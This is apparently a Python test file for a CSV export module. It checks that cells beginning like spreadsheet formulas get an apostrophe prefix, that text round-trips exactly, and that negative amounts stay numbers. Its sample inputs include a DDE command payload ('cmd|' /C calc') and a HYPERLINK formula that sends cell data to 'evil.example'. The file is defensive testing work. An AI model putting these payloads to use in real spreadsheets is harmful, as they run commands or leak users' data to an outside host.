"""T18, RJ4: what a client typed is never run by a spreadsheet, and can be had back to the letter."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from core.books.csv_cells import csv_line, decimal_cell, neutral, number_cell, original, text_cell

FORMULAS = (
    *("=1+1", "+1 555 0100", "-5+cmd|' /C calc'!A0", "-5", "-5.00", "@SUM(A1)", "\t=1", "\r=1", "\n=1"),
    *("\x00=1", "＝1+1", "＋1", "－1", "＠A1", "'=1", "＇=1", "−1", "–1", "﹦1", "⁼1", " =1", "\u00a0=1"),
    *("\u200b=1", "\ufeff=1", "\u202e=1", "\u3000＝1", '=HYPERLINK("https://evil.example?"&A1,"x")'),
    *("''", "'", "  \t=1", "=1\r\n=2", '=","'),
)
HARMLESS = (
    "",
    "José García",
    "李小龍",
    "O'Brien",
    "5-1",
    "a=b",
    "1+1",
    "a@example.org",
    " Ann",
    '"',
    "[]",
    "(1)",
)
STARTS = set("=+-@\t\r\n\x00＝＋－＠")


@pytest.mark.parametrize("text", FORMULAS)
def test_t18_text_that_looks_like_a_formula_gets_an_apostrophe(text: str) -> None:
    assert neutral(text) == f"'{text}"


@pytest.mark.parametrize("text", HARMLESS)
def test_t18_other_text_stays_as_it_is(text: str) -> None:
    assert neutral(text) == text


@given(st.text())
@example("''=1")
def test_t18_the_text_can_always_be_had_back(text: str) -> None:
    assert original(neutral(text)) == text


@given(st.text(alphabet=st.sampled_from([*STARTS, "'", " ", "\u200b", "a", "1", '"', ","])))
def test_t18_no_cell_begins_as_a_formula(text: str) -> None:
    shown = neutral(text)
    assert shown[:1] not in STARTS
    assert shown.lstrip(" \u200b")[:1] not in STARTS


def test_t18_negative_amounts_stay_numbers() -> None:
    assert number_cell(-1250) == "-1250"
    assert [decimal_cell(cents, 2) for cents in (-1250, -5, 0, 7, 100, 123_456_789)] == [
        *("-12.50", "-0.05", "0.00", "0.07", "1.00", "1234567.89")
    ]
    assert decimal_cell(1500, 3) == "1.500"


def test_nothing_and_an_empty_text_differ() -> None:
    assert (
        csv_line([text_cell(None), text_cell(""), number_cell(None), decimal_cell(None, 2)]) == b',"",,\r\n'
    )


@given(st.lists(st.lists(st.text(st.characters(exclude_categories=["Cs"])), min_size=2), min_size=1))
def test_rj4_another_reader_reads_the_same(rows: list[list[str]]) -> None:
    data = b"".join(csv_line(map(text_cell, row)) for row in rows)
    read = list(csv.reader(io.StringIO(data.decode(), newline=""), strict=True))
    assert [list(map(original, row)) for row in read] == rows
